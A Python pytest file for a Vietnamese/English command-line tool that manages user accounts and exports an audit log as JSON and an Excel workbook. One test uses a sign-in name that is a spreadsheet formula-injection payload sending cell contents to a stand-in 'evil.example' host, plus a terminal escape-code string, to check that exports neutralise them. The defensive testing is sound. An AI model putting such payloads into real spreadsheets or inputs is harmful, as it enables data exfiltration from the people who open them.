"""`cli.py users …` and `cli.py audit …`: the password only on standard input, JSON lists, the audit log as
JSON and as a workbook opened with openpyxl (typed user names neutralised), and bad input answered with one
line in Vietnamese or English and exit code 2."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone

import openpyxl
import pytest
from argon2 import PasswordHasher

from cli.main import main
from core import accounts, audit
from tests.conftest import ROOT

PASSWORD = "mật khẩu dài đủ"


@pytest.fixture(autouse=True)
def _cheap_hashes_and_the_demo(monkeypatch):
    monkeypatch.setattr(accounts, "_HASHER", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
    monkeypatch.delenv("DXMAP_PACKAGE", raising=False)
    monkeypatch.delenv("DATABASE_URL", raising=False)


def run(argv: list[str], monkeypatch, stdin: str = "") -> int:
    monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
    return main(argv)


def test_users_add_takes_the_password_on_standard_input_and_never_shows_it(tmp_path):
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    added = subprocess.run(
        [sys.executable, "cli.py", "users", "add", "Boss", "--role", "admin", "--password-stdin", "--db", url],
        input=PASSWORD + "\n",
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert added.returncode == 0, added.stderr
    assert added.stdout.strip() == "Đã tạo tài khoản “boss” (Quản trị; Toàn tỉnh)."
    listed = subprocess.run(
        [sys.executable, "cli.py", "users", "list", "--json", "--db", url],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    (boss,) = json.loads(listed.stdout)
    assert boss["username"] == "boss" and boss["role"] == "admin" and boss["area"] == [] and boss["active"]
    assert datetime.fromisoformat(boss["created"]).tzinfo is not None and boss["last_signin"] is None
    assert PASSWORD not in added.stdout + added.stderr + listed.stdout + listed.stderr
    assert accounts.sign_in("boss", PASSWORD, url=url).account is not None  # the whole line, spaces and all
    (entry,) = [e for e in audit.entries(url=url) if e.action == "account_add"]
    assert entry.actor.startswith("cli:") and entry.detail == {"username": "boss", "role": "admin", "area": []}


def test_every_users_command_on_sqlite_and_postgresql(store_url, monkeypatch, capsys):
    db = ["--db", store_url]
    assert run(["users", "list", *db], monkeypatch) == 0
    assert capsys.readouterr().out.strip() == "Chưa có tài khoản nào."
    assert run(["users", "add", "boss", "--role", "admin", "--password-stdin", *db], monkeypatch, PASSWORD) == 0
    argv = ["users", "add", "lan", "--role", "district_lead", "--area", "103,03166", "--display-name", "Lò Thị Lan"]
    assert run([*argv, "--password-stdin", *db, "--lang", "en"], monkeypatch, PASSWORD + "\r\n") == 0
    assert capsys.readouterr().out.splitlines()[-1] == "Account “lan” created (District lead; 103, 03166)."
    assert accounts.sign_in("lan", PASSWORD, url=store_url).account.display_name == "Lò Thị Lan"

    assert run(["users", "set-area", "lan", "094", *db], monkeypatch) == 0
    assert run(["users", "set-password", "lan", "--password-stdin", *db], monkeypatch, "another long one\n") == 0
    assert run(["users", "disable", "lan", *db], monkeypatch) == 0
    assert capsys.readouterr().out.splitlines() == [
        "Địa bàn của “lan”: 094.",
        "Đã đổi mật khẩu của “lan”.",
        "Đã khóa tài khoản “lan”.",
    ]
    assert run(["users", "list", "--json", *db], monkeypatch) == 0
    listed = {a["username"]: a for a in json.loads(capsys.readouterr().out)}
    assert listed["lan"]["area"] == ["094"] and listed["lan"]["active"] is False
    assert listed["lan"]["last_signin"] is not None and listed["boss"]["last_signin"] is None
    assert run(["users", "enable", "lan", *db], monkeypatch) == 0
    assert accounts.sign_in("lan", "another long one", url=store_url).account is not None

    assert capsys.readouterr().out.strip() == "Đã mở lại tài khoản “lan”."
    assert run(["users", "list", *db], monkeypatch) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0].split()[:2] == ["Tên", "đăng"] and table[2].startswith("lan ") and "Lò Thị Lan" in table[2]
    assert "094" in table[2] and "Phụ trách địa bàn" in table[2]

    assert run(["audit", "--json", *db], monkeypatch) == 0
    log = json.loads(capsys.readouterr().out)
    assert [e["action"] for e in log] == [
        "account_add",
        "account_add",
        "signin_ok",
        "account_area",
        "account_password",
        "account_disable",
        "account_disable",
        "signin_ok",
    ]
    assert PASSWORD not in json.dumps(log, ensure_ascii=False)


@pytest.mark.parametrize(
    ("argv", "stdin", "vi", "en"),
    [
        (["users", "add", "lan", "--role", "viewer"], PASSWORD, "Chưa có mật khẩu", "No password given"),
        (
            ["users", "add", "lan", "--role", "owner", "--password-stdin"],
            PASSWORD,
            "Vai trò “owner”",
            "no role “owner”",
        ),
        (["users", "add", "Lân", "--role", "viewer", "--password-stdin"], PASSWORD, "không hợp lệ", "is not valid"),
        (["users", "add", "lan", "--role", "viewer", "--password-stdin"], "short\n", "quá ngắn", "too short"),
        (["users", "add", "lan", "--role", "viewer", "--password-stdin"], "", "quá ngắn", "too short"),
        (
            ["users", "add", "lan", "--role", "district_lead", "--area", "094,12345", "--password-stdin"],
            PASSWORD,
            "Mã “12345” không phải",
            "“12345” is not a district or commune code of the province in the data (province Điện Biên (11)",
        ),
        (
            ["users", "add", "lan", "--role", "planner", "--area", "094", "--password-stdin"],
            PASSWORD,
            "bỏ --area",
            "leave out",
        ),
        (["users", "disable", "ghost"], "", "Không có tài khoản “ghost”", "There is no account “ghost”"),
        (["users", "set-password", "ghost", "--password-stdin"], PASSWORD, "Không có tài khoản", "no account"),
        (["users", "set-area", "ghost", "094"], "", "Không có tài khoản", "no account"),
        (["audit", "--since", "31/02/2025"], "", "Ngày “31/02/2025” không đọc được", "Cannot read the date"),
        (["audit", "--since", "yesterday"], "", "dd/mm/yyyy", "dd/mm/yyyy"),
        (["audit", "--xlsx"], "", "-o TỆP.xlsx", "-o FILE.xlsx"),
        (["users", "list", "--db", "nonsense://"], "", "--db hoặc DATABASE_URL", "--db or DATABASE_URL"),
    ],
)
def test_bad_input_exits_2_with_one_line_in_either_language(argv, stdin, vi, en, tmp_path, monkeypatch, capsys):
    db = [] if "--db" in argv else ["--db", f"sqlite:///{tmp_path / 'store.sqlite'}"]
    for lang, wanted in (("vi", vi), ("en", en)):
        assert run([*argv, *db, "--lang", lang], monkeypatch, stdin) == 2
        out, err = capsys.readouterr()
        assert out == "" and len(err.strip().splitlines()) == 1 and wanted in err, (lang, err)
    if db:
        assert accounts.list_accounts(db[1]) == []  # nothing written


def test_the_last_admin_cannot_be_disabled_from_the_command_line(tmp_path, monkeypatch, capsys):
    db = ["--db", f"sqlite:///{tmp_path / 'store.sqlite'}"]
    assert run(["users", "add", "boss", "--role", "admin", "--password-stdin", *db], monkeypatch, PASSWORD) == 0
    assert run(["users", "disable", "boss", *db, "--lang", "en"], monkeypatch) == 2
    assert capsys.readouterr().err.strip() == "Cannot disable “boss”: it is the last active administrator."


def test_a_store_that_does_not_answer_is_one_line_and_exit_1(monkeypatch, capsys):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # nothing listens there once the socket is closed
    assert run(["users", "list", "--db", f"postgresql://nobody@127.0.0.1:{port}/x", "--lang", "en"], monkeypatch) == 1
    assert capsys.readouterr().err.strip() == "The data store (postgresql) cannot be read; nothing was changed."


def test_audit_since_a_day_as_json_and_as_a_workbook_with_typed_names_neutralised(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    accounts.add_account("boss", PASSWORD, "admin", actor="cli:op", url=url)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    accounts.sign_in(hostile, "guess guess", url=url)
    accounts.sign_in("\x1b[31mred\x07", "guess guess", url=url)
    audit.record("boss", "export", {"format": "csv", "filter": {"district": "+103"}}, url=url)
    today = datetime.now(UTC).astimezone(timezone(timedelta(hours=7))).date()  # the day in Vietnam

    for since in (today.strftime("%d/%m/%Y"), today.isoformat()):
        assert run(["audit", "--since", since, "--json", "--db", url], monkeypatch) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\\u001b[31mred\\u0007" in out  # escaped, never sent to the terminal
        assert [e["action"] for e in json.loads(out)] == ["account_add", "signin_failed", "signin_failed", "export"]
    assert run(["audit", "--since", "01/01/2999", "--json", "--db", url], monkeypatch) == 0
    assert json.loads(capsys.readouterr().out) == []
    assert run(["audit", "--db", url], monkeypatch) == 0
    text = capsys.readouterr().out
    assert "\x1b" not in text and "Đăng nhập thất bại" in text and "cli:op" in text

    out = tmp_path / "audit.xlsx"
    assert run(["audit", "--xlsx", "-o", str(out), "--db", url, "--lang", "en"], monkeypatch) == 0
    assert "Wrote 4 audit entries" in capsys.readouterr().err
    sheet = openpyxl.load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "Audit log" and rows[0] == ("Time (Vietnam time, UTC+7)", "Who", "Action", "Detail")
    assert isinstance(rows[1][0], datetime) and rows[1][0].date() == today
    assert [r[2] for r in rows[1:]] == ["Account created", "Sign-in refused", "Sign-in refused", "Export"]
    assert rows[2][1] == "'" + hostile.lower()  # the typed name, as text that no spreadsheet runs
    assert sheet.cell(row=3, column=2).data_type == "s"
    assert rows[3][1] == "\ufffd[31mred\ufffd"
    assert json.loads(rows[4][3]) == {"filter": {"district": "+103"}, "format": "csv"}
    assert all(not str(c).startswith(("=", "+", "-", "@")) for r in rows for c in r if isinstance(c, str))


def test_disable_and_set_password_sign_out_browsers_that_stayed_signed_in(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'store.sqlite'}"
    db = ["--db", url]
    accounts.add_account("boss", PASSWORD, "admin", actor="t", url=url)
    accounts.add_account("minh", PASSWORD, "planner", actor="t", url=url)
    tokens = [accounts.sign_in("minh", PASSWORD, url=url, remember=3600).token for _ in range(2)]
    assert run(["users", "set-password", "minh", "--password-stdin", *db], monkeypatch, "another long one\n") == 0
    assert capsys.readouterr().out.splitlines()[-1] == "Đã kết thúc 2 phiên đăng nhập được ghi nhớ của tài khoản này."
    assert all(accounts.resume_session(tok, lifetime=3600, url=url) is None for tok in tokens)
    token = accounts.sign_in("minh", "another long one", url=url, remember=3600).token
    assert run(["users", "disable", "minh", *db, "--lang", "en"], monkeypatch) == 0
    assert capsys.readouterr().out.splitlines() == [
        "Account “minh” disabled.",
        "1 remembered sign-in(s) of this account ended.",
    ]
    assert accounts.resume_session(token, lifetime=3600, url=url) is None
    assert run(["users", "enable", "minh", *db], monkeypatch) == 0
    assert accounts.resume_session(token, lifetime=3600, url=url) is None  # enabling brings no browser back
